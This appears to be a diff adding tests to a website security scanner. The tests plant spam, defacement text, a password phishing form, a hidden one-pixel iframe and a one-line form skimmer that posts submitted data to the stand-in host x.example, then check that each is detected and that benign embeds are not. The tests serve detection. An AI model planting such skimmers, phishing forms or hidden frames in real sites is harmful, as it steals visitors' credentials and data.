@@ -56,6 +56,78 @@ describe.each(await testStorages())("a scan on %s", (_, storage) => {
     expect(await site.issues()).toHaveLength(1);
   });
 
+  test("finds spam, defaced pages, phishing forms and hidden frames whoever wrote them", async () => {
+    await using site = await startSite({ storage: storage() });
+    const link = `<a href="https://pills.example/">here</a>`;
+    const planted: readonly (readonly [title: string, content: string, rule: string])[] = [
+      [
+        "Offers",
+        `<p>Buy cheap Viagra online. Cialis without prescription, ${link}.</p>`,
+        "spam-text",
+      ],
+      ["Hacked by Gh0st", "<p>Greetz to all.</p>", "defacement"],
+      ["News", "<h1>HACKED BY CYBER TEAM</h1><p>Your security is low.</p>", "defacement"],
+      ["時計", "<p>スーパーコピー ブランド 激安 通販 送料無料</p>", "spam-text"],
+      [
+        "Account",
+        '<form action="https://x.example/"><input name="user"><input type="password"></form>',
+        "phishing-form",
+      ],
+      ["Frame", '<iframe src="https://x.example/" width="1" height="1"></iframe>', "hidden-frame"],
+      [
+        "Shop",
+        "<script>f.addEventListener('submit',()=>fetch('https://x.example/',{method:'POST',body:new FormData(f)}))</script>",
+        "form-out",
+      ],
+    ];
+    for (const [title, content] of planted)
+      await site.admin.post("/core/v2/posts", { title, content });
+    const found = await site.scan();
+    for (const [title, , rule] of planted) {
+      const issue = found.find(
+        ({ data, shortMsg }) => data["ruleId"] === rule && shortMsg.includes(`“${title}”`),
+      );
+      expect([title, rule, (issue?.severity ?? 0) >= 75]).toEqual([title, rule, true]);
+    }
+  });
+
+  test("finds spam in comments", async () => {
+    await using site = await startSite({ storage: storage() });
+    const { body } = await site.admin.post("/core/v2/posts", { title: "Fog", status: "publish" });
+    await site.admin.post("/core/v2/comments", {
+      post: body.id,
+      author_name: "Online casino bonus",
+      author_email: "a@quay.example",
+      content: "Free spins at https://casino.example/ and no deposit bonus!",
+    });
+    expect((await site.scan()).map(({ data }) => data["ruleId"])).toEqual(["spam-text"]);
+  });
+
+  test("what trusted authors embed, and articles about spam and hacking, are no findings", async () => {
+    await using site = await startSite({ storage: storage() });
+    const harmless: readonly (readonly [title: string, content: string])[] = [
+      [
+        "Analytics",
+        `<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>
+        <script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-1');</script>`,
+      ],
+      ["Toggle", "<script>document.querySelector('#menu').classList.toggle('open');</script>"],
+      ["Map", '<iframe src="https://www.google.com/maps/embed?pb=1" width="600"></iframe>'],
+      [
+        "Newsletter",
+        '<form action="https://quay.us1.list-manage.com/subscribe/post"><input type="email"></form>',
+      ],
+      ["Sign up", '<form action="https://news.example/"><input type="email" name="mail"></form>'],
+      ["The history of Viagra", "<p>Sildenafil, sold as Viagra, was made by Pfizer.</p>"],
+      ["How our site was hacked by a bot", "<p>In May the harbour's page was hacked by a bot.</p>"],
+      ["A night at the casino", '<p>We met at the <a href="https://c.example/">casino</a>.</p>'],
+      ["東京", "<p>東京で新品の腕時計を見ました。</p>"],
+    ];
+    for (const [title, content] of harmless)
+      await site.admin.post("/core/v2/posts", { title, content });
+    expect(await site.scan()).toEqual([]);
+  });
+
   test("one scan runs at a time, and can be stopped", async () => {
     await using site = await startSite({ storage: storage() });
     await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
